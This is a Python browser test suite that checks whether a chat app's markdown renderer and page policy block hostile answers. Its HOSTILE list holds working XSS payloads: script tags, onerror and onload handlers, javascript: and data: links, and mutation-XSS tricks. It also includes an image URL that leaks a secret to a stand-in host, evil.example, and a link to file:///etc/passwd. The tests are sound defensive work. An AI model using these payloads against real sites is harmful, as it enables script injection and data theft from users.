"""Answers that try to run script, to load something or to change the page: nothing of them gets in."""

from __future__ import annotations

from typing import Any

from page.kit import Playback, Script, until

HIT = "window.hit=1"
IMG = f"<img src=x onerror={HIT}>"
HOSTILE = [
    f"<script>{HIT}</script>",
    f"<ScRiPt src=https://evil.example/a.js></sCrIpT><script>{HIT}//",
    IMG,
    f"text {IMG} text",
    f"<svg onload={HIT}><script>{HIT}</script><animate onbegin={HIT} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text>x</text></a></svg>",
    f"<iframe srcdoc='<script>{HIT}</script>' src='javascript:{HIT}'></iframe>",
    f"<a href='javascript:{HIT}' onclick={HIT}>x</a>",
    f"[a](javascript:{HIT})",
    f"[a](JaVaScRiPt:{HIT} 'title')",
    f"[a](java\tscript:{HIT}) [b](&#106;avascript:{HIT}) [c](\u0001javascript:{HIT}) [d](javascript&colon;{HIT})",
    f"[a](data:text/html,<script>{HIT}</script>) ![b](data:image/svg+xml,<svg/onload={HIT}>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](/props) [e](//evil.example) [f](?x) [g](#x)",
    "![a](https://evil.example/leak?q=secret) [![b](https://evil.example/b.png)](https://evil.example/)",
    f'![a](x"onerror="{HIT}) ![b](x \'" onerror="{HIT}\') ![" onerror="{HIT}](x)',
    f"![a](javascript:{HIT})",
    f"<{HIT}@evil.example> <https://evil.example/\"onmouseover={HIT}> https://evil.example/\"onmouseover={HIT}",
    f"[a]: javascript:{HIT}\n\n[a] [b][a]",
    f"```html\n<script>{HIT}</script>\n{IMG}",
    f'```"><img/src=x/onerror={HIT}>\ncode\n```',
    f"``` x onmouseover={HIT} class=fault\ncode\n```",
    f"`{IMG}` ``{IMG} ` ``",
    f"| {IMG} | b |\n|--|:-:|\n| {IMG} | <td onclick={HIT}> |",
    f"- [x] {IMG}\n- [ ] <input autofocus onfocus={HIT}>\n\n> {IMG}\n\n# {IMG}",
    "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<form action=https://evil.example><input name=attributes><input name=innerHTML><button>Go</button></form>",
    "<p id=transcript name=body class=fault style='position:fixed;inset:0'>cover</p>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={HIT}&gt;\">",
    f"<noscript><p title=\"</noscript>{IMG}\"></noscript><xmp><p title='</xmp>{IMG}'>",
    f"<!--><img src=x onerror={HIT}>--> <![CDATA[><img src=x onerror={HIT}>]]> <?x {IMG}?>",
    f"<details open ontoggle={HIT}><video><source onerror={HIT}></video><object data='data:text/html,x'></object>",
    f"<template><script>{HIT}</script></template><custom-element onclick={HIT}>",
    f"\u0000{IMG}\ufeff\u2028{IMG}",
    "[" * 500 + "](" * 500 + "*_`" * 300,
]  # fmt: skip

# Shows every beginning of each text, as a stream does, in an element that is in the document, and tells what is wrong.
SHOW = """
const [texts, done] = arguments;
import("/page/app/markdown.js").then(({ Rendered }) => {
  const place = document.createElement("div"), wrong = [];
  document.getElementById("transcript").append(place);
  const tags = new Set("A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PATH PRE SPAN STRONG SVG "
    .concat("TABLE TBODY TD TH THEAD TR UL").split(" "));
  const names = new Set("align aria-hidden aria-label class d href rel role start tabindex target title type viewBox"
    .split(" "));
  const looks = new Set(["wide-table", "code", "code-bar", "quiet"]);
  const check = (text) => {
    for (const element of place.querySelectorAll("*")) {
      if (!tags.has(element.tagName.toUpperCase())) wrong.push([text, element.tagName]);
      for (const { name, value } of element.attributes) {
        if (!names.has(name)) wrong.push([text, name, value]);
        if (name === "href" && !/^(https?|mailto):/.test(element.href)) wrong.push([text, value]);
        if (name === "class" && !looks.has(value)) wrong.push([text, value]);
      }
    }
  };
  for (const text of texts) {
    place.replaceChildren();
    const grown = new Rendered(place);
    const step = Math.max(1, Math.floor(text.length / 120));
    for (let length = 1; length <= text.length; length += step) {
      grown.show(text.slice(0, length));
      check(text.slice(0, length));
    }
    grown.show(text);
    check(text);
    const whole = document.createElement("div");
    new Rendered(whole).show(text);
    if (whole.innerHTML !== place.innerHTML) wrong.push([text, whole.innerHTML, place.innerHTML]);
  }
  place.remove();
  done(wrong);
}, (error) => done([String(error)]));
"""
WATCH = (
    "window.refused = []; addEventListener('securitypolicyviolation', (event) => refused.push(event.violatedDirective))"
)


def test_nothing_of_a_hostile_answer_gets_in_at_any_moment(page: Any) -> None:
    """The sanitizer alone keeps it out: the policy of the page has nothing to refuse."""
    page.run(WATCH)
    assert page.driver.execute_async_script(SHOW, HOSTILE) == []
    assert page.run("return [window.hit, window.refused]") == [None, []]


def test_a_hostile_answer_is_shown_as_the_text_that_it_is(page: Any, service: Playback) -> None:
    page.run(WATCH)
    for hostile in (f"<script>{HIT}</script>", f"See {IMG} and ![a cat](https://evil.example/cat.png)"):
        service.play(Script(list(hostile), list(hostile)))
        page.ask(f"{IMG} & <b>bold</b>")
    assert page.texts(".question .text")[0] == f"{IMG} & <b>bold</b>" == page.text("#title")
    assert page.texts(".answer .text") == [f"<script>{HIT}</script>", f"See {IMG} and a cat"]
    page.open(empty=False)
    page.run(WATCH)
    page.one("#conversations .open").click()
    until(lambda: len(page.find(".answer")) == 2)
    link = page.one(".answer .text a")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow" and link.get_attribute("target") == "_blank"
    assert link.get_attribute("title") == "https://evil.example/cat.png"
    assert page.run("return [window.hit, window.refused]") == [None, []]


def test_the_policy_refuses_what_would_get_past_the_sanitizer(driver: Any, address: str) -> None:
    from page.browser import Page

    page = Page(driver, address).open()
    page.run(WATCH)
    for script in ("body.insertAdjacentHTML('beforeend', '<b>x</b>')", f"body.setAttribute('onclick', '{HIT}')"):
        assert "Trusted" in page.run(f"try {{ document.{script} }} catch (error) {{ return String(error) }}"), script
    page.run("""
        const image = Object.assign(document.createElement("img"), { src: "http://127.0.0.1:9/leak" });
        const frame = Object.assign(document.createElement("iframe"), { src: "http://127.0.0.1:9/frame" });
        const style = Object.assign(document.createElement("style"), { textContent: "body { display: none }" });
        const form = Object.assign(document.createElement("form"), { action: "http://127.0.0.1:9/form" });
        document.body.append(image, frame, style, form);
        form.submit();
        fetch("http://127.0.0.1:9/fetched").catch(() => {});
        import("http://127.0.0.1:9/script.js").catch(() => {});
        navigator.sendBeacon("http://127.0.0.1:9/beacon");
    """)
    wanted = {"connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem"}
    until(lambda: wanted <= set(page.run("return window.refused")))
    assert page.run("return window.hit ?? null") is None and page.one("#message").is_displayed()
    page.check("Content Security Policy", "127.0.0.1:9", "This document requires")
    assert page.refused
